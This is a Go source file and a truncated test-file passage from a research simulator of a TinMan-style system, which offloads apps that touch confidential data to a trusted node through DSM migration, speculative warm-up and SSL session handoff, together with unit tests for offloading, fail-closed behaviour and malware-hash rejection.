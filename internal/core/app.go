package core

import (
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"tinman/internal/cor"
	"tinman/internal/dsm"
	"tinman/internal/node"
	"tinman/internal/obs"
	"tinman/internal/taint"
	"tinman/internal/tlssim"
	"tinman/internal/vm"
	"tinman/internal/vm/asm"
)

// deviceNativeNames lists the native methods every app VM provides; the
// node registers the same names as non-offloadable stubs so its gate can
// bounce them home (§3.1 case 2).
var deviceNativeNames = []string{"https_request", "ui_notify"}

// Report accumulates one app's offloading metrics — the raw material for
// Table 3 and the latency breakdowns of Figs 14/15.
type Report struct {
	// Migrations counts device<->node thread round trips.
	Migrations int
	// Syncs counts DSM synchronizations in both directions (Table 3
	// "Sync. Times").
	Syncs int
	// InitBytes and DirtyBytes are the initial and subsequent DSM sync
	// volumes (Table 3 "Off. Init"/"Off. Dirty").
	InitBytes  int
	DirtyBytes int
	// DeviceInstrs/NodeInstrs and DeviceCalls/NodeCalls split execution
	// between endpoints (Table 3 "Off. Code" = NodeCalls fraction).
	DeviceInstrs uint64
	NodeInstrs   uint64
	DeviceCalls  uint64
	NodeCalls    uint64
	// DSMTime is virtual time spent in DSM migration round trips; SSLTime
	// is virtual time in SSL session injection + TCP payload replacement
	// signaling; Total is end-to-end for the last Run.
	DSMTime time.Duration
	SSLTime time.Duration
	Total   time.Duration
	// Speculative warm-up pipeline accounting (BENCH_offload.json): the
	// background chunks/bytes shipped off the critical path, how many
	// trigger-time migrations rode the warm delta path versus fell back
	// cold, and the state the last trigger actually had to ship (on a warm
	// hit, the dirty delta alone).
	WarmupChunks     int
	WarmupBytes      int
	WarmHits         int
	WarmMisses       int
	TriggerSyncBytes int
	// FirstTriggerSyncBytes pins the first offload's wire size — the full
	// snapshot on the cold path, the dirty delta on a warm hit.
	FirstTriggerSyncBytes int
	// TriggerToExec is virtual time from the last offload trigger to the
	// node's first resumed instruction; FirstTriggerToExec pins the first
	// offload's, which is the latency speculation targets.
	TriggerToExec      time.Duration
	FirstTriggerToExec time.Duration
}

// OffloadedFraction returns NodeCalls / (NodeCalls + DeviceCalls).
func (r *Report) OffloadedFraction() float64 {
	total := r.NodeCalls + r.DeviceCalls
	if total == 0 {
		return 0
	}
	return float64(r.NodeCalls) / float64(total)
}

// App is one installed application: a device VM half plus (when TinMan is
// enabled) a trusted-node VM half behind the control plane.
type App struct {
	Name string
	dev  *Device

	prog    *vm.Program
	hash    string
	machine *vm.VM
	ep      *dsm.Endpoint
	locks   *dsm.LockTable

	// Speculative warm-up driver state: the cached static offload plan, and
	// the index of the final chunk once every chunk has been emitted (-1
	// while the stream is still running).
	plan           *vm.OffloadPlan
	warmStarted    bool
	warmFinalIndex int

	lastTrigger taint.Tag
	Report      Report
}

// Hash returns the app's dex hash.
func (a *App) Hash() string { return a.hash }

// Program returns the device-side program.
func (a *App) Program() *vm.Program { return a.prog }

// VM returns the device-side VM (examples use it to inspect the heap).
func (a *App) VM() *vm.VM { return a.machine }

// InstallOpts tunes one app's installation.
type InstallOpts struct {
	// FrameworkHeapKB sizes the preallocated framework state, which governs
	// the initial DSM sync volume.
	FrameworkHeapKB int
	// Policy overrides the device-wide taint policy for this app — the
	// selective-tainting optimization of §3.5 ("enables tainting only for
	// certain security critical apps"). nil inherits the device policy.
	// An app running Off cannot use cors (its placeholder accesses would go
	// unnoticed), so only non-critical apps should opt out.
	Policy *taint.Policy
}

// InstallApp assembles the app on the device and, when TinMan is enabled,
// ships its source to the trusted node (the warm-up dex transfer of §6.2).
// frameworkHeapKB sizes the preallocated framework state, which governs the
// initial DSM sync volume.
func (d *Device) InstallApp(name, source string, frameworkHeapKB int) (*App, error) {
	return d.InstallAppOpts(name, source, InstallOpts{FrameworkHeapKB: frameworkHeapKB})
}

// InstallAppOpts is InstallApp with per-app options.
func (d *Device) InstallAppOpts(name, source string, opts InstallOpts) (*App, error) {
	if _, dup := d.apps[name]; dup {
		return nil, fmt.Errorf("core: app %q already installed", name)
	}
	prog, err := asm.Assemble(name, source)
	if err != nil {
		return nil, fmt.Errorf("core: installing %s: %v", name, err)
	}
	pol := d.policy
	if opts.Policy != nil {
		pol = *opts.Policy
	}
	frameworkHeapKB := opts.FrameworkHeapKB
	machine := vm.New(vm.Config{Program: prog, Heap: vm.NewHeap(1, 2), Policy: pol})
	app := &App{Name: name, dev: d, prog: prog, hash: prog.Hash(), machine: machine}
	app.ep = dsm.NewEndpoint(dsm.DeviceSide, machine, &deviceResolver{dev: d})
	app.ep.Restricted = d.restrictedMask()
	app.locks = dsm.NewLockTable()
	registerDeviceNatives(app)

	machine.Hooks.OnTaintedAccess = func(tag taint.Tag, ev taint.Event) bool {
		app.lastTrigger = tag
		if tr := d.w.Obs; tr.Enabled() {
			tr.Event(obs.PhaseTaintTrigger, obs.TagBits(uint64(tag)))
		}
		return d.w.enabled
	}
	machine.Hooks.OnMonitorEnter = func(o *vm.Object) bool {
		return !app.locks.Acquire(o.ID, dsm.DeviceSide)
	}
	machine.Hooks.OnMonitorExit = func(o *vm.Object) { app.locks.Release(o.ID) }

	// Framework heap: the app/framework state that the first offload must
	// ship wholesale (Table 3 "Off. Init").
	const chunk = 256
	for i := 0; i < frameworkHeapKB*1024/chunk; i++ {
		machine.NewString(strings.Repeat("f", chunk-24))
	}

	if d.w.enabled {
		payload, err := json.Marshal(installRequest{Name: name, Source: source, DeviceID: d.ID})
		if err != nil {
			return nil, err
		}
		reply, err := d.request(frame{Type: msgInstall, Payload: payload})
		if err != nil {
			return nil, err
		}
		if reply.Type == msgDenied {
			return nil, fmt.Errorf("core: node rejected %s: %w", name, node.Denied(string(reply.Payload)))
		}
		if reply.Type != msgInstallOK || string(reply.Payload) != app.hash {
			return nil, fmt.Errorf("core: dex hash mismatch installing %s", name)
		}
		d.w.Node.SetAppLocks(name, app.locks)
	}
	d.apps[name] = app
	return app, nil
}

// CorArg materializes a cor argument for an app invocation — the user
// picking an entry from the selection widget (§4.1). With TinMan enabled it
// returns a tainted placeholder; with TinMan disabled (the baseline) it
// returns the plaintext from Config.BaselinePlaintexts, which is what an
// unprotected phone would hold.
func (d *Device) CorArg(a *App, corID string) (vm.Value, error) {
	if !d.w.enabled {
		pt, ok := d.baseline[corID]
		if !ok {
			return vm.Value{}, fmt.Errorf("core: baseline plaintext for %q not provided", corID)
		}
		return vm.RefVal(a.machine.NewString(pt)), nil
	}
	view, ok := d.catalog[corID]
	if !ok {
		return vm.Value{}, fmt.Errorf("core: cor %q not in catalog", corID)
	}
	obj := a.machine.NewTaintedString(view.Placeholder, taint.Bit(view.Bit))
	obj.CorID = view.ID
	return vm.RefVal(obj), nil
}

// StringArg materializes an ordinary (untainted) string argument.
func (d *Device) StringArg(a *App, s string) vm.Value {
	return vm.RefVal(a.machine.NewString(s))
}

// Run executes Class.method with the given arguments, driving the on-demand
// offloading loop until the thread completes.
func (a *App) Run(class, method string, args ...vm.Value) (vm.Value, error) {
	m := a.prog.Method(class, method)
	if m == nil {
		return vm.Value{}, fmt.Errorf("core: %s has no method %s.%s", a.Name, class, method)
	}
	th, err := a.machine.NewThread(m, args...)
	if err != nil {
		return vm.Value{}, err
	}
	start := a.dev.w.Net.Now()
	defer func() { a.Report.Total = a.dev.w.Net.Now() - start }()
	a.startWarmup()

	for {
		// One device-VM execution burst: span start to end brackets the
		// modeled compute advance, so the burst's virtual duration is real.
		var burst *obs.Span
		if tr := a.dev.w.Obs; tr.Enabled() {
			burst = tr.StartSpan(obs.PhaseDeviceExec)
		}
		before := a.machine.Instrs
		stop, err := th.Run()
		a.dev.w.advanceCompute(true, a.machine.Instrs-before)
		if burst != nil {
			burst.Add(obs.Count(int64(a.machine.Instrs - before)))
			burst.End()
		}
		a.Report.DeviceInstrs = a.machine.Instrs
		a.Report.DeviceCalls = a.machine.Calls
		if err != nil {
			return vm.Value{}, err
		}
		switch stop {
		case vm.StopDone:
			return th.Result, nil
		case vm.StopMigrateTaint, vm.StopMigrateLock:
			next, result, done, err := a.offload(th, stop)
			if err != nil {
				return vm.Value{}, err
			}
			if done {
				return result, nil
			}
			th = next
		case vm.StopLimit:
			return vm.Value{}, fmt.Errorf("core: %s.%s exceeded the instruction budget", class, method)
		default:
			return vm.Value{}, fmt.Errorf("core: unexpected device stop %v", stop)
		}
	}
}

// warmupChunkObjs bounds the objects per background warm-up chunk; small
// chunks keep each send's CPU slice short so speculation never starves
// foreground execution.
const warmupChunkObjs = 64

// startWarmup kicks off the speculative pre-migration pipeline: if the
// static taint analysis says this program can reach an offload boundary
// (vm.OffloadPlan) and the initial DSM sync has not happened yet, the app
// begins streaming its heap to the node in background chunks while the
// device keeps executing. Every chunk send is a scheduled network event,
// so shipping overlaps the compute advances of Run's bursts instead of
// preceding them.
func (a *App) startWarmup() {
	w := a.dev.w
	if !w.enabled || w.noWarmup || a.warmStarted || a.dev.ctrl == nil {
		return
	}
	if a.plan == nil {
		a.plan = a.prog.OffloadPlan()
	}
	if !a.plan.Speculative() {
		return
	}
	epoch := a.ep.BeginWarmup()
	if epoch == 0 {
		return // the initial sync already shipped; nothing to warm
	}
	a.warmStarted = true
	a.warmFinalIndex = -1
	if tr := w.Obs; tr.Enabled() {
		tr.Event(obs.PhaseDSMWarmup, obs.Count(int64(len(a.plan.Entries))))
	}
	w.Net.Schedule(0, func() { a.sendWarmupChunk(epoch) })
}

// sendWarmupChunk emits one background chunk and schedules the next. It
// runs inside network event context, so it only notes CPU cost and pacing
// delays — it never re-enters the event loop. Any transport trouble
// (reconnect, open breaker, write failure) abandons the attempt: losing
// the speculation only costs the cold path.
func (a *App) sendWarmupChunk(epoch uint64) {
	w := a.dev.w
	if a.ep.WarmupEpoch() != epoch || a.ep.WarmupReady() {
		return // aborted, superseded, or already complete
	}
	d := a.dev
	if d.ctrl == nil || !d.ctrl.Established() || d.Degraded() {
		a.ep.AbortWarmup()
		return
	}
	c, err := a.ep.CaptureWarmup(warmupChunkObjs)
	if err != nil || c == nil {
		return // a capture error already aborted the attempt
	}
	f, err := encodeWarmupChunk(a.Name, c.Encode())
	if err != nil {
		a.ep.AbortWarmup()
		return
	}
	enc := encodeFrame(f)
	if err := d.ctrl.Write(enc); err != nil {
		a.ep.AbortWarmup()
		return
	}
	w.noteDeviceTransfer(len(enc))
	// Chunk serialization is device CPU work, but paid concurrently: it
	// lands as power draw and as pacing between chunks, not as a stall of
	// the foreground burst this event interleaves with.
	cost := time.Duration(int64(len(enc)) * w.Cost.SerializeNsPerByte)
	w.CPU.NoteActive(w.Net.Now(), cost)
	if tr := w.Obs; tr.Enabled() {
		tr.Event(obs.PhaseDSMWarmup, obs.Bytes(len(enc)), obs.Count(int64(len(c.Objects))))
	}
	if c.Final {
		a.warmFinalIndex = c.Index
		return
	}
	w.Net.Schedule(cost, func() { a.sendWarmupChunk(epoch) })
}

// warmupAck processes one node acknowledgement, routed here by the device
// pump. Only the final chunk's positive ack arms the warm delta path
// (intermediate acks carry no promise the node holds the whole epoch); a
// rejection kills the attempt.
func (a *App) warmupAck(epoch uint64, index int, ok bool) {
	if a.ep.WarmupEpoch() != epoch {
		return // stale: a newer attempt, or none at all
	}
	if !ok {
		a.ep.AbortWarmup()
		return
	}
	if a.warmFinalIndex >= 0 && index == a.warmFinalIndex {
		a.ep.WarmupAcked()
	}
}

// settleWarmup decides the warm-up's fate at an offload trigger. If every
// chunk has been emitted but the final ack is still in flight, it waits
// one bounded RTT-scale grace for it; an attempt whose chunk stream the
// trigger outran is abandoned immediately. Either way, after this call
// the endpoint is unambiguously warm-ready or cold.
func (a *App) settleWarmup() {
	w := a.dev.w
	if a.ep.WarmupEpoch() == 0 || a.ep.WarmupReady() {
		return
	}
	if a.warmFinalIndex >= 0 {
		grace := 2*w.profile.Latency + 25*time.Millisecond
		deadline := w.Net.Now() + grace
		w.Net.Schedule(grace, func() {})
		w.Net.RunUntil(func() bool {
			if err := a.dev.pump(); err != nil {
				return true // the request path will surface the error
			}
			return a.ep.WarmupReady() || w.Net.Now() >= deadline
		})
	}
	if !a.ep.WarmupReady() {
		a.ep.AbortWarmup()
	}
}

// offload performs one device->node->device DSM round trip. It returns the
// continued thread, or the final result if the thread completed remotely.
func (a *App) offload(th *vm.Thread, reason vm.StopReason) (*vm.Thread, vm.Value, bool, error) {
	if !a.dev.w.enabled {
		return nil, vm.Value{}, false, fmt.Errorf("core: offload requested but TinMan is disabled")
	}
	w := a.dev.w
	t0 := w.Net.Now()

	// One DSM round trip is one span; the control_rpc child (and through it
	// the node's node_exec/sync_back) nests underneath.
	var span *obs.Span
	if tr := w.Obs; tr.Enabled() {
		span = tr.StartSpan(obs.PhaseDSMMigrate)
	}
	defer span.End()

	// Let a nearly-complete warm-up finish (or die) before capturing: the
	// capture must know definitively whether the warm delta path is armed.
	a.settleWarmup()

	var (
		reply frame
		wire  []byte
	)
	for {
		mig, err := a.ep.CaptureMigration(th, reason)
		if err != nil {
			return nil, vm.Value{}, false, err
		}
		mig.TriggerTag = uint64(a.lastTrigger)
		warm := mig.WarmEpoch != 0
		wire = mig.Encode()
		if span != nil {
			span.Add(obs.Bytes(len(wire)))
			span.Add(mig.ObsFields()...)
		}
		// Serialization is device CPU work.
		w.advanceDeviceWork(time.Duration(int64(len(wire)) * w.Cost.SerializeNsPerByte))

		env, err := json.Marshal(migrationEnvelope{App: a.Name, Bytes: wire})
		if err != nil {
			return nil, vm.Value{}, false, err
		}
		reply, err = a.dev.request(frame{Type: msgMigration, Payload: env})
		if err != nil {
			// The node may never have seen this sync, or lost its copy in a
			// crash: forget the warm-up so the next offload re-ships the full
			// initial state instead of an incremental diff the node cannot
			// anchor. (Re-shipping to a node that did keep it is harmless: the
			// node's adopt path refreshes in place.)
			a.ep.ResetWarmup()
			return nil, vm.Value{}, false, err
		}
		if reply.Type == msgWarmMiss {
			if !warm {
				return nil, vm.Value{}, false, fmt.Errorf("core: node warm-missed a cold migration: %s", reply.Payload)
			}
			// The node does not hold our epoch ready (reconnect to a restarted
			// node, shard handoff, torn warm-up): fall back to the cold path.
			// Resetting reverts the endpoint to "initial sync pending", so the
			// recapture ships the full snapshot under a fresh request ID — and
			// a cold migration can never warm-miss, so the loop runs at most
			// twice.
			a.Report.WarmMisses++
			a.ep.ResetWarmup()
			continue
		}
		if warm {
			a.Report.WarmHits++
		}
		break
	}
	a.Report.TriggerSyncBytes = len(wire)
	if a.Report.FirstTriggerSyncBytes == 0 {
		a.Report.FirstTriggerSyncBytes = len(wire)
	}
	if reply.Type == msgDenied {
		return nil, vm.Value{}, false, fmt.Errorf("core: trusted node denied offload: %w", node.Denied(string(reply.Payload)))
	}
	if reply.Type != msgMigration {
		return nil, vm.Value{}, false, fmt.Errorf("core: unexpected reply type %d to migration", reply.Type)
	}
	var renv migrationEnvelope
	if err := json.Unmarshal(reply.Payload, &renv); err != nil {
		return nil, vm.Value{}, false, err
	}
	back, err := dsm.DecodeMigration(renv.Bytes)
	if err != nil {
		return nil, vm.Value{}, false, err
	}
	// Deserialization is device CPU work too.
	w.advanceDeviceWork(time.Duration(int64(len(renv.Bytes)) * w.Cost.SerializeNsPerByte))
	next, err := a.ep.ApplyMigration(back)
	if err != nil {
		return nil, vm.Value{}, false, err
	}

	a.Report.Migrations++
	a.Report.Syncs = a.ep.Stats.Syncs
	a.Report.InitBytes = a.ep.Stats.InitBytes
	a.Report.DirtyBytes = a.ep.Stats.DirtyBytes
	a.Report.WarmupChunks = a.ep.Stats.WarmupChunks
	a.Report.WarmupBytes = a.ep.Stats.WarmupBytes
	if renv.Stats != nil {
		a.Report.NodeInstrs = renv.Stats.Instrs
		a.Report.NodeCalls = renv.Stats.Calls
		a.Report.Syncs += renv.Stats.Syncs
		a.Report.InitBytes += renv.Stats.InitBytes
		a.Report.DirtyBytes += renv.Stats.DirtyBytes
		if renv.Stats.ExecStartNs > 0 {
			tte := time.Duration(renv.Stats.ExecStartNs) - t0
			a.Report.TriggerToExec = tte
			if a.Report.FirstTriggerToExec == 0 {
				a.Report.FirstTriggerToExec = tte
			}
		}
	}
	a.Report.DSMTime += w.Net.Now() - t0

	if back.Reason == vm.StopDone {
		result, err := a.ep.DecodeResult(back)
		if err != nil {
			return nil, vm.Value{}, false, err
		}
		return nil, result, true, nil
	}
	if next == nil {
		return nil, vm.Value{}, false, fmt.Errorf("core: node returned %v without a thread", back.Reason)
	}
	return next, vm.Value{}, false, nil
}

// deviceResolver adapts the catalog to the DSM resolver interface.
type deviceResolver struct {
	dev *Device
}

// Fill returns placeholders: known cors from the catalog, derived cors via
// the deterministic same-length generator.
func (r *deviceResolver) Fill(id string, length int) (string, taint.Tag, bool) {
	if v, ok := r.dev.catalog[id]; ok {
		return v.Placeholder, taint.Bit(v.Bit), true
	}
	return cor.Placeholder(id, length), taint.None, true
}

// MaskID refuses: the device can never mint cor IDs, and under asymmetric
// tainting no maskable string should ever originate here.
func (r *deviceResolver) MaskID(o *vm.Object) string { return "" }

// registerDeviceNatives installs the device-side native methods on an app's
// VM.
func registerDeviceNatives(a *App) {
	a.machine.RegisterNative(&vm.NativeDef{
		Name:        "https_request",
		Offloadable: false,
		Fn:          a.nativeHTTPSRequest,
	})
	a.machine.RegisterNative(&vm.NativeDef{
		Name:        "ui_notify",
		Offloadable: false,
		Fn: func(t *vm.Thread, args []vm.Value) (vm.Value, error) {
			// Rendering a toast costs a little display work.
			a.dev.w.Display.NoteActive(a.dev.w.Net.Now(), 50*time.Millisecond)
			return vm.NullVal(), nil
		},
	})
}

// nativeHTTPSRequest implements https_request(host, request) -> response.
// Untainted requests go straight out over the app's TLS session. Tainted
// requests take the TinMan path: SSL session injection (§3.2) followed by a
// marked record that the egress filter redirects for payload replacement
// (§3.3).
func (a *App) nativeHTTPSRequest(t *vm.Thread, args []vm.Value) (vm.Value, error) {
	if len(args) != 2 {
		return vm.Value{}, fmt.Errorf("https_request takes (host, request)")
	}
	hostObj, reqObj := args[0].Ref, args[1].Ref
	if hostObj == nil || reqObj == nil {
		return vm.Value{}, fmt.Errorf("https_request with null argument")
	}
	d := a.dev
	w := d.w
	hc, err := d.httpsDial(hostObj.Str)
	if err != nil {
		return vm.Value{}, err
	}

	tainted := !reqObj.Tag.Empty() || reqObj.CorID != ""
	if tainted && !w.enabled {
		return vm.Value{}, fmt.Errorf("https_request: tainted payload without TinMan")
	}

	var rec []byte
	if tainted {
		rec, err = a.injectAndSeal(hc, reqObj)
		if err != nil {
			return vm.Value{}, err
		}
	} else {
		rec, err = hc.sess.Seal(tlssim.TypeApplicationData, []byte(reqObj.Str))
		if err != nil {
			return vm.Value{}, err
		}
	}
	if tainted && len(rec) > 1400 {
		return vm.Value{}, fmt.Errorf("https_request: marked record (%dB) exceeds one segment", len(rec))
	}

	if err := hc.tcp.Write(rec); err != nil {
		return vm.Value{}, err
	}
	w.noteDeviceTransfer(len(rec))

	// While the device waits on the origin server, the egress filter may
	// redirect the marked record through the node — tcp_replace attributes
	// itself under this span via Tracer.Current.
	var wait *obs.Span
	if tr := w.Obs; tr.Enabled() {
		wait = tr.StartSpan(obs.PhaseHTTPWait, obs.Domain(hc.domain))
	}
	resp, err := hc.awaitRecord(w.Net)
	if wait != nil {
		if err != nil {
			wait.Add(obs.Err(obs.ErrTimeout))
		} else {
			wait.Add(obs.Bytes(len(resp)))
		}
		wait.End()
	}
	if err != nil {
		return vm.Value{}, err
	}
	w.noteDeviceTransfer(len(resp) + 5)
	return vm.RefVal(a.machine.NewString(string(resp))), nil
}

// injectAndSeal runs the TinMan path for a tainted request: SSL session
// injection (§3.2, fig 8 steps 1–2) followed by sealing the placeholder
// under the marked record type for the egress filter to redirect. The whole
// stretch is one tls_inject span.
func (a *App) injectAndSeal(hc *httpsConn, reqObj *vm.Object) ([]byte, error) {
	d := a.dev
	w := d.w
	t0 := w.Net.Now()
	var span *obs.Span
	if tr := w.Obs; tr.Enabled() {
		span = tr.StartSpan(obs.PhaseTLSInject, obs.Cor(reqObj.CorID), obs.Domain(hc.domain))
	}
	defer span.End()
	if reqObj.CorID == "" {
		return nil, fmt.Errorf("https_request: tainted request has no cor identity")
	}
	// Extracting session state from the SSL library and arming the
	// filter is device work (§3.6).
	w.advanceDeviceWork(w.Cost.SSLStateSetup)
	// Step 1 (fig 8): ship the SSL session state to the trusted node.
	st := hc.sess.Export()
	if span != nil {
		span.Add(st.ObsFields()...)
	}
	stBytes, err := st.Marshal()
	if err != nil {
		return nil, err
	}
	inj := injectRequest{
		App:        a.Name,
		CorID:      reqObj.CorID,
		Domain:     hc.domain,
		ServerAddr: hc.addr,
		ServerPort: hc.port,
		ClientPort: hc.tcp.LocalPort(),
		State:      stBytes,
	}
	payload, err := json.Marshal(inj)
	if err != nil {
		return nil, err
	}
	reply, err := d.request(frame{Type: msgSSLInject, Payload: payload})
	if err != nil {
		return nil, err
	}
	if reply.Type == msgDenied {
		return nil, fmt.Errorf("https_request: %w", node.Denied(string(reply.Payload)))
	}
	if reply.Type != msgSSLInjectOK {
		return nil, fmt.Errorf("https_request: unexpected inject reply %d", reply.Type)
	}
	// Steps 2–3: seal the placeholder under the mark and let the filter
	// redirect it.
	if err := d.ensureFilter(); err != nil {
		return nil, err
	}
	rec, err := hc.sess.Seal(tlssim.TypeMarkedCor, []byte(reqObj.Str))
	if err != nil {
		return nil, err
	}
	a.Report.SSLTime += w.Net.Now() - t0
	return rec, nil
}
