package core

import (
	"errors"
	"strings"
	"testing"

	"tinman/internal/netsim"
	"tinman/internal/node"
	"tinman/internal/taint"
	"tinman/internal/vm"
)

const tinyApp = `
class Tiny
  method double 1 4
    const r1, 2
    mul r2, r0, r1
    return r2
  end
  method touch 1 4
    const r1, 0
    charat r2, r0, r1
    return r2
  end
  method notify 0 2
    native r0, ui_notify
    const r1, 7
    return r1
  end
end`

func newTestWorld(t *testing.T, enabled bool) *World {
	t.Helper()
	w, err := NewWorld(Config{Seed: 1, Profile: netsim.WiFi, TinManEnabled: enabled})
	if err != nil {
		t.Fatal(err)
	}
	return w
}

func TestFrameEncoding(t *testing.T) {
	f := EncodeFrame(msgCatalog, []byte("payload"))
	var r FrameReader
	r.Feed(f[:3]) // partial
	if _, ok, _ := r.Next(); ok {
		t.Fatal("partial frame parsed")
	}
	r.Feed(f[3:])
	got, ok, err := r.Next()
	if err != nil || !ok || got.Type != msgCatalog || string(got.Payload) != "payload" {
		t.Fatalf("frame = %+v ok=%v err=%v", got, ok, err)
	}
	// Garbage length rejected.
	var r2 FrameReader
	r2.Feed([]byte{0xFF, 0xFF, 0xFF, 0xFF, 1})
	if _, _, err := r2.Next(); err == nil {
		t.Fatal("implausible frame length accepted")
	}
}

func TestFrameReaderRest(t *testing.T) {
	var r FrameReader
	f := EncodeFrame(1, []byte("a"))
	r.Feed(append(append([]byte(nil), f...), 'X', 'Y'))
	if _, ok, _ := r.Next(); !ok {
		t.Fatal("frame not parsed")
	}
	if string(r.Rest()) != "XY" {
		t.Fatalf("rest = %q", r.Rest())
	}
}

func TestWorldDefaults(t *testing.T) {
	w := newTestWorld(t, true)
	if !w.TinManEnabled() {
		t.Fatal("enabled flag lost")
	}
	if w.Profile().Name != "wifi" {
		t.Fatalf("profile = %s", w.Profile().Name)
	}
	if w.Cost.DeviceNsPerInstr == 0 || w.Cost.ServerProcessing == 0 {
		t.Fatal("cost model not defaulted")
	}
	if w.Device == nil || w.Node == nil || w.Battery == nil {
		t.Fatal("world incomplete")
	}
}

func TestResolve(t *testing.T) {
	w := newTestWorld(t, false)
	w.AddServerHost("x.example", "192.0.2.1")
	addr, err := w.Resolve("x.example")
	if err != nil || addr != "192.0.2.1" {
		t.Fatalf("resolve = %q, %v", addr, err)
	}
	if _, err := w.Resolve("nope.example"); err == nil {
		t.Fatal("unknown domain resolved")
	}
	if got := w.ReverseResolve("192.0.2.1"); got != "x.example" {
		t.Fatalf("reverse = %q", got)
	}
	if got := w.ReverseResolve("203.0.113.9"); got != "203.0.113.9" {
		t.Fatalf("reverse of unknown = %q", got)
	}
}

func TestInstallAndRunLocal(t *testing.T) {
	// With TinMan disabled, apps run entirely on the device.
	w := newTestWorld(t, false)
	app, err := w.Device.InstallApp("tiny", tinyApp, 8)
	if err != nil {
		t.Fatal(err)
	}
	res, err := app.Run("Tiny", "double", vm.IntVal(21))
	if err != nil || res.Int != 42 {
		t.Fatalf("res=%v err=%v", res, err)
	}
	if app.Report.Migrations != 0 {
		t.Fatal("baseline migrated")
	}
	if app.Report.Total <= 0 {
		t.Fatal("no virtual time accounted")
	}
}

func TestInstallDuplicateFails(t *testing.T) {
	w := newTestWorld(t, false)
	if _, err := w.Device.InstallApp("tiny", tinyApp, 8); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Device.InstallApp("tiny", tinyApp, 8); err == nil {
		t.Fatal("duplicate install accepted")
	}
}

func TestInstallBadSourceFails(t *testing.T) {
	w := newTestWorld(t, false)
	if _, err := w.Device.InstallApp("bad", "garbage", 8); err == nil {
		t.Fatal("bad source installed")
	}
}

func TestOffloadTouchingCor(t *testing.T) {
	w := newTestWorld(t, true)
	if _, err := w.Node.RegisterCor("pw", "secret12", "test pw"); err != nil {
		t.Fatal(err)
	}
	if err := w.Device.RefreshCatalog(); err != nil {
		t.Fatal(err)
	}
	app, err := w.Device.InstallApp("tiny", tinyApp, 8)
	if err != nil {
		t.Fatal(err)
	}
	w.Node.BindApp("pw", app.Hash())
	pw, err := w.Device.CorArg(app, "pw")
	if err != nil {
		t.Fatal(err)
	}
	// touch reads the first character of the password: offloads, computes
	// on the node with the plaintext, and the result (a tainted primitive)
	// comes back masked.
	res, err := app.Run("Tiny", "touch", pw)
	if err != nil {
		t.Fatal(err)
	}
	if app.Report.Migrations == 0 {
		t.Fatal("no offload happened")
	}
	if res.Int == int64('s') && res.Tag.Empty() {
		t.Fatal("plaintext first byte returned to device untainted")
	}
}

func TestNativeBouncesFromNode(t *testing.T) {
	w := newTestWorld(t, true)
	app, err := w.Device.InstallApp("tiny", tinyApp, 8)
	if err != nil {
		t.Fatal(err)
	}
	// notify never touches a cor: runs locally, native executes on device.
	res, err := app.Run("Tiny", "notify")
	if err != nil || res.Int != 7 {
		t.Fatalf("res=%v err=%v", res, err)
	}
	if app.Report.Migrations != 0 {
		t.Fatal("untainted run should not migrate")
	}
}

func TestCorArgRequiresCatalogOrBaseline(t *testing.T) {
	w := newTestWorld(t, true)
	app, _ := w.Device.InstallApp("tiny", tinyApp, 8)
	if _, err := w.Device.CorArg(app, "nope"); err == nil {
		t.Fatal("unknown cor materialized")
	}

	wb := newTestWorld(t, false)
	appb, _ := wb.Device.InstallApp("tiny", tinyApp, 8)
	if _, err := wb.Device.CorArg(appb, "pw"); err == nil {
		t.Fatal("baseline without plaintext materialized a cor")
	}
}

func TestBaselineCorArgIsPlaintext(t *testing.T) {
	w, err := NewWorld(Config{
		Seed: 2, TinManEnabled: false,
		BaselinePlaintexts: map[string]string{"pw": "real-secret"},
	})
	if err != nil {
		t.Fatal(err)
	}
	app, _ := w.Device.InstallApp("tiny", tinyApp, 8)
	v, err := w.Device.CorArg(app, "pw")
	if err != nil {
		t.Fatal(err)
	}
	if v.Ref.Str != "real-secret" || !v.Ref.Tag.Empty() {
		t.Fatalf("baseline cor = %v", v.Ref)
	}
}

func TestMaliciousAppRefusedAtInstall(t *testing.T) {
	// An app whose dex hash is in the malware DB is rejected when shipped
	// to the node (§3.4).
	w := newTestWorld(t, true)
	app, err := w.Device.InstallApp("tiny", tinyApp, 8)
	if err != nil {
		t.Fatal(err)
	}
	// Poison the DB with this exact hash, then try installing a renamed
	// copy (same code => same hash).
	w.Node.Malware.Add(app.Hash(), "TestTrojan")
	_, err = w.Device.InstallApp("tiny2", tinyApp, 8)
	if err == nil || !strings.Contains(err.Error(), "malware") {
		t.Fatalf("err = %v, want malware rejection", err)
	}
}

func TestOfflineDeviceFailsClosed(t *testing.T) {
	// §5.4 connectivity requirement: with the node unreachable, cor access
	// fails with a clear error instead of falling back to anything unsafe.
	w := newTestWorld(t, true)
	if _, err := w.Node.RegisterCor("pw", "secret12", ""); err != nil {
		t.Fatal(err)
	}
	if err := w.Device.RefreshCatalog(); err != nil {
		t.Fatal(err)
	}
	app, _ := w.Device.InstallApp("tiny", tinyApp, 8)
	w.Node.BindApp("pw", app.Hash())
	pw, _ := w.Device.CorArg(app, "pw")

	// The node drops off the network entirely ("during a flight"). A mere
	// severed connection is no longer enough: the channel reconnects and
	// retries through those.
	w.CrashNode()

	_, err := app.Run("Tiny", "touch", pw)
	if err == nil {
		t.Fatal("offline cor access succeeded")
	}
	if !errors.Is(err, node.ErrNodeUnavailable) {
		t.Fatalf("err = %v, want node.ErrNodeUnavailable", err)
	}
	// And the placeholder is all the device ever had.
	if pw.Ref.Str == "secret12" || !strings.HasPrefix(pw.Ref.Str, "TINMAN-P") {
		t.Fatalf("device holds %q, want a placeholder", pw.Ref.Str)
	}
}

func TestSelectiveTainting(t *testing.T) {
	// §3.5: "adopt selectively tainting, which enables tainting only for
	// certain security critical apps". A device configured with the Off
	// policy runs apps untainted; cors cannot be used there.
	w, err := NewWorld(Config{Seed: 3, TinManEnabled: true, DevicePolicy: taint.Off})
	if err != nil {
		t.Fatal(err)
	}
	app, err := w.Device.InstallApp("tiny", tinyApp, 8)
	if err != nil {
		t.Fatal(err)
	}
	res, err := app.Run("Tiny", "double", vm.IntVal(5))
	if err != nil || res.Int != 10 {
		t.Fatalf("res=%v err=%v", res, err)
	}
	if app.Report.Migrations != 0 {
		t.Fatal("untainted app migrated")
	}
	if !app.VM().Tracking() == false {
		t.Fatal("device VM should not be tracking")
	}
}

func TestReportOffloadedFraction(t *testing.T) {
	r := Report{DeviceCalls: 90, NodeCalls: 10}
	if f := r.OffloadedFraction(); f != 0.1 {
